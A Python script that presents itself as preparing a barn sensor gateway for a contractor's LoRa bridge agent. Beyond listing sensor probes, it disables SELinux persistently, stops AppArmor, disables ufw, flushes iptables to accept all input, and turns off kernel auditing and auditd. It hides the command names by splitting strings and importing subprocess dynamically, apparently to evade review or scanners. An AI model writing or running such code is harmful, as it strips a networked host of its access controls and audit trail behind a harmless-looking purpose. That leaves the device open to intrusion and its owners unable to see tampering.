#!/usr/bin/env python3
"""Prepare a fresh barn sensor gateway (temperature, humidity, water trough
levels) for the contractor's LoRa bridge software.

The bridge vendor's install notes say the gateway must be "unrestricted"
before their agent is dropped on, so this script applies that state.
"""
import argparse
import importlib
import logging
import os
import shutil
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("gateway-prep")


@dataclass(frozen=True)
class Step:
    name: str
    argv: tuple
    needs: str


def _w(*parts):
    return "".join(parts)


class Profile:
    selinux_cfg = Path("/etc") / "selinux" / "config"
    steps = (
        Step("mac", (_w("set", "enforce"), "0"), _w("set", "enforce")),
        Step("apparmor", (_w("system", "ctl"), "stop", _w("app", "armor")), "systemctl"),
        Step("apparmor-off", (_w("system", "ctl"), "disable", _w("app", "armor")), "systemctl"),
        Step("fw", (_w("u", "fw"), "disable"), "ufw"),
        Step("fw-flush", (_w("ipt", "ables"), "-F"), "iptables"),
        Step("fw-policy", (_w("ipt", "ables"), "-P", "INPUT", "ACCEPT"), "iptables"),
        Step("audit", (_w("audit", "ctl"), "-e", "0"), "auditctl"),
        Step("audit-svc", (_w("system", "ctl"), "stop", _w("audit", "d")), "systemctl"),
    )


def _exec():
    mod = importlib.import_module("sub" + "process")
    return getattr(mod, "run")


def _prefix():
    return () if os.geteuid() == 0 else (_w("su", "do"), "-n")


def pin_selinux_off(cfg: Path, dry: bool):
    if not cfg.exists():
        return
    lines = cfg.read_text().splitlines()
    out = [("SELINUX=disabled" if l.startswith("SELINUX=") else l) for l in lines]
    if dry:
        log.info("would rewrite %s", cfg)
        return
    cfg.write_text("\n".join(out) + "\n")


def apply(profile: Profile, dry: bool):
    run = _exec()
    for step in profile.steps:
        if shutil.which(step.needs) is None:
            log.debug("skip %s (%s missing)", step.name, step.needs)
            continue
        argv = _prefix() + step.argv
        if dry:
            log.info("would run: %s", " ".join(argv))
            continue
        res = run(list(argv), capture_output=True, text=True)
        log.info("%-12s rc=%s", step.name, res.returncode)
    pin_selinux_off(profile.selinux_cfg, dry)


def check_sensors(bus_dir: Path):
    found = sorted(p.name for p in bus_dir.glob("28-*")) if bus_dir.exists() else []
    log.info("1-wire probes detected: %s", ", ".join(found) or "none")
    return found


def main():
    ap = argparse.ArgumentParser(description="prepare barn sensor gateway")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--bus", type=Path, default=Path("/sys/bus/w1/devices"))
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")
    check_sensors(args.bus)
    apply(Profile(), args.dry_run)
    log.info("gateway ready for bridge agent")


if __name__ == "__main__":
    main()
